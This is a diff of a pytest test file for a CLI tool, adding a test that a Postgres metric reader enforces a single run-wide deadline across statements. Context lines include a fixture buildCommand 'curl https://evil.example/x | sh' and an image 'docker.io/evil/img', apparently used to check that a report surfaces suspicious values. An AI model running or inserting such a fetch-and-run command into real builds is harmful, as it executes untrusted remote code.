@@ -785,3 +785,26 @@ def test_apply_reports_every_field_it_writes_with_its_value(project: Path) -> No
     assert "- api `image`: `docker.io/evil/img`" in md
     assert "- api `buildCommand`: `curl https://evil.example/x | sh; pip install" in md
     assert "- api `plan`" not in md and "- api `startCommand`" not in md
+
+
+@pytest.mark.postgres
+def test_one_deadline_for_the_whole_run(db: Db) -> None:
+    """Each statement's timeout is what is left of the run's deadline: many statements cannot
+    add up past it, and once it has passed nothing more is sent."""
+    from tier_cli.config.settings import DatabaseSettings
+    from tier_cli.errors import MetricsError
+    from tier_cli.metrics.postgres.reader import MetricReader
+
+    with psycopg.connect(db.owner, autocommit=True) as conn:
+        conn.execute("BEGIN READ ONLY")
+        reader = MetricReader(conn, DatabaseSettings(statement_timeout_ms=60000), "")
+        reader.ends_at = time.monotonic() + 0.5  # half a second left of the run
+        started = time.monotonic()
+        with pytest.raises(MetricsError, match="statement timeout"):
+            reader.run("users", "SELECT pg_sleep(5)", None, None)
+        assert time.monotonic() - started < 2.5
+        conn.execute("ROLLBACK")
+        conn.execute("BEGIN READ ONLY")
+        with pytest.raises(MetricsError, match="the run's deadline"):
+            reader.run("users", "SELECT 1", None, None)
+        conn.execute("ROLLBACK")
